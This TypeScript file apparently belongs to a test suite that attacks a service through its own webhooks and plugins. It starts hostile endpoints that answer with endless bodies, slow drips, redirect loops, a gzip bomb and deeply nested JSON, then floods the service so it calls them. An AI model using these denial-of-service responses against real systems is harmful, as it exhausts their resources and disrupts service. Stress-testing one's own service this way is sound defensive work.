// Attacks by responses: webhooks and plugins of the attacker whose endpoints respond with far too much, or too slowly.
import { createServer, type RequestListener } from 'node:http'
import type { AddressInfo, Socket } from 'node:net'
import { setInterval as every } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'
import { ATTACKER_ADDRESS, callFrom } from './call-from.ts'
import { type Attack, createSealed, flood, type Outcome, preparedAttack, type Victim } from './flood.ts'

/** Loaded only by the program that prepares the attacks. */
const loadSetup = () => import('./company-setup.ts')

const MIB = 1024 * 1024
const DRIP_MS = 200
const REDIRECTS = 20

const drip = async (socket: Socket, begin: string, next: (turn: number) => string): Promise<void> => {
  socket.on('error', () => undefined).write(begin)
  let turn = 0
  for await (const _ of every(DRIP_MS)) {
    if (socket.destroyed) return
    socket.write(next(++turn))
  }
}

/** Writes a block again whenever it has left. */
const pour = (socket: Socket, head: string): void => {
  const block = Buffer.alloc(MIB, ' ')
  const next = (): void => {
    if (!socket.destroyed) socket.write(block, next)
  }
  socket.on('error', () => undefined).write(head, next)
}

const bomb = gzipSync(Buffer.alloc(64 * MIB, ' '))
const deep = `${'['.repeat(100_000)}${']'.repeat(100_000)}`
const wide = `{"fields":[${'{},'.repeat(80_000)}{}]}`

/** Each request gets the next kind of response. */
const responses: readonly RequestListener[] = [
  ({ socket }) =>
    pour(socket, 'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1073741824\r\n\r\n'),
  ({ socket }) => void drip(socket, 'HTTP/1.1 200 OK\r\nContent-Length: 1000000\r\n\r\n', () => 'x'),
  ({ socket }) => void drip(socket, 'HTTP/1.1 200 OK\r\n', (turn) => `X-${turn}: ${'x'.repeat(4_000)}\r\n`),
  ({ url = '/' }, response) => {
    const count = Number(new URL(url, 'http://a').searchParams.get('n') ?? 0)
    response.writeHead(307, { location: `/?n=${(count + 1) % REDIRECTS}` }).end()
  },
  (_, response) => {
    response.writeHead(200, { 'content-type': 'application/json', 'content-encoding': 'gzip' }).end(bomb)
  },
  (_, response) => response.writeHead(200, { 'content-type': 'application/json' }).end(deep),
  (_, response) => response.writeHead(200, { 'content-type': 'application/json' }).end(wide),
]

/** Counts the requests that it gets. */
const startEndpoint = async (port: number) => {
  let count = 0
  const server = createServer((incoming, response) => {
    const respond = responses[count % responses.length]
    count += 1
    incoming.resume().on('end', () => respond?.(incoming, response))
  })
  server.on('clientError', (_, socket) => socket.destroy())
  await new Promise<void>((resolve) => server.listen(port, ATTACKER_ADDRESS, resolve))
  return { url: `http://${ATTACKER_ADDRESS}:${(server.address() as AddressInfo).port}`, countRequests: () => count }
}

const hostileWebhooks = preparedAttack({
  name: '20 webhooks of one company to endpoints whose responses are endless, and events for all of them',
  effects: ['requests to the endpoint'],
  prepare: async (victim) => (await loadSetup()).createSender(victim),
  async run({ company, path, ...person }, seconds): Promise<Outcome> {
    const endpoint = await startEndpoint(0)
    for (let count = 0; count < 20; count += 1)
      await callFrom(ATTACKER_ADDRESS, company.apiUrl, 'POST', `/api/services/${company.serviceId}/webhooks`, {
        token: company.token,
        body: { url: `${endpoint.url}/${count}`, auth_type: 'none' },
      })
    const messages = await flood(10, seconds, () =>
      callFrom(ATTACKER_ADDRESS, person.apiUrl, 'POST', path, {
        token: person.token,
        body: { body: createSealed(64) },
      }),
    )
    return { ...messages, 'requests to the endpoint': endpoint.countRequests() }
  },
})

const PLUGINS = 10

const createPlugin = async ({ company }: Victim, base_url: string): Promise<{ plugin_id: string; pass: string }> => {
  const options = { token: company.token, body: { base_url } }
  const { status, text } = await callFrom(ATTACKER_ADDRESS, company.apiUrl, 'POST', '/api/account/plugins', options)
  if (status !== 201) throw new Error(`a plugin was refused: ${status} ${text.slice(0, 200)}`)
  const { plugin, registry_pass } = JSON.parse(text)
  return { plugin_id: plugin.id, pass: registry_pass.pass }
}

const hostilePlugins: Attack = {
  name: '30 descriptions at once of plugins of one company whose replies are endless',
  effects: ['requests to the endpoint'],
  async run(victim, seconds) {
    const endpoint = await startEndpoint(victim.pluginPort)
    const plugins: object[] = []
    for (let count = 0; count < PLUGINS; count += 1)
      plugins.push(await createPlugin(victim, `${endpoint.url}/${count}`))
    let turn = 0
    const calls = await flood(30, seconds, () => {
      turn += 1
      const body = plugins[turn % plugins.length]
      return callFrom(ATTACKER_ADDRESS, victim.forwarder, 'POST', '/describe', { body })
    })
    return { ...calls, 'requests to the endpoint': endpoint.countRequests() }
  },
}

export const endpointFloods: readonly Attack[] = [hostileWebhooks, hostilePlugins]
